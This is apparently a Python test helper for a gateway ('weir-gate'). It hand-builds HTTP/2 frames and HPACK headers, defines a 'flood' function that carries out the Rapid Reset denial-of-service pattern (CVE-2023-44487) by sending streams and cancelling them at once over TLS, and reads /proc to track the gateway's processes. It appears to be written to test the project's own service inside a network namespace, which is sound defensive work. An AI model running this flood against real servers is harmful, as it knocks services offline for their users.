# SPDX-License-Identifier: BSD-3-Clause
"""What clients by the network can do to a gate, and its processes."""
from __future__ import annotations

import contextlib
import socket
import ssl
import time
from pathlib import Path

from netns import Namespace

def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Of HTTP/2 (RFC 9113 §4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def request(method: str) -> bytes:
    """The header of a call without a body, in HPACK without a table of its own (RFC 7541 §6.2.2)."""
    def text(value: bytes) -> bytes:
        return bytes([len(value)]) + value
    return (b"\x83\x87" + b"\x04" + text(method.encode()) + b"\x01" + text(b"a")
            + b"\x0f\x10" + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers"))


def begun_and_reset(method: str, first: int, count: int) -> bytes:
    """Streams that a client begins and takes back at once (CVE-2023-44487)."""
    return b"".join(frame(1, 4, stream, request(method)) + frame(3, 0, stream, b"\0\0\0\x08")
                    for stream in range(first, first + 2 * count, 2))


def flood(namespace: Namespace, address: str, context: ssl.SSLContext, method: str, until: float) -> int:
    """On one connection until it breaks or its time is over; the number of streams."""
    host, port = address.split(":")
    stream = 1
    with contextlib.suppress(OSError), namespace.entered(), socket.create_connection((host, int(port)), timeout=5) as plain, \
            context.wrap_socket(plain, server_hostname=host) as tls:
        tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
        while time.monotonic() < until:
            tls.sendall(begun_and_reset(method, stream, 500))
            stream += 1000
            tls.setblocking(False)
            with contextlib.suppress(ssl.SSLWantReadError):
                while tls.recv(1 << 16):
                    pass
            tls.settimeout(5)
    return stream // 2


def processes_of(service: int) -> list[int]:
    """Of the gate of this process: the one that accepts, and one for each connection."""
    def is_gate(process: Path) -> bool:
        return (process / "comm").read_text() == "weir-gate\n"
    session = Path(f"/proc/{service}/stat").read_text().rpartition(")")[2].split()[3]
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if is_gate(process) and (process / "stat").read_text().rpartition(")")[2].split()[3] == session:
                found.append(int(process.name))
    return sorted(found)


def is_running(process: int) -> bool:
    """A dead one whom nobody has asked for his status is none."""
    try:
        return Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False
